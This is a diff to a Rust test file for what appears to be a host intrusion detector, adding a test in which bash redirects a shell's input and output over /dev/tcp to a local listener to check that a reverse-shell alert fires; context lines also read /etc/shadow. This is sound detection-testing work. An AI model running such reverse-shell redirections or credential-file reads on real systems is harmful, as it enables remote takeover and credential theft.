@@ -210,6 +210,25 @@ fn root_each_default_rule_fires_on_its_real_behaviour() {
     let _ = child.wait_with_output();
     alert_of(&w, "lg.execution.reverse_shell_connect", pid);
 
+    // A shell whose stdin and stdout are a TCP connection.
+    let l = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
+    let port = l.local_addr().expect("addr").port();
+    let child = Command::new("/bin/bash")
+        .args([
+            "-c",
+            &format!("exec 3<>/dev/tcp/127.0.0.1/{port}; exec /bin/sh -c 'exit 0' <&3 >&3"),
+        ])
+        .spawn()
+        .expect("bash");
+    let pid = u64::from(child.id());
+    let _conn = l.accept();
+    let _ = child.wait_with_output();
+    let a = alert_of(&w, "lg.execution.reverse_shell_stdio", pid);
+    assert_eq!(
+        a["trigger"]["fields"]["process.stdio_sockets"],
+        serde_json::json!(["stdin", "stdout"])
+    );
+
     // A credential file read by cat.
     let child = Command::new("/bin/cat")
         .arg("/etc/shadow")
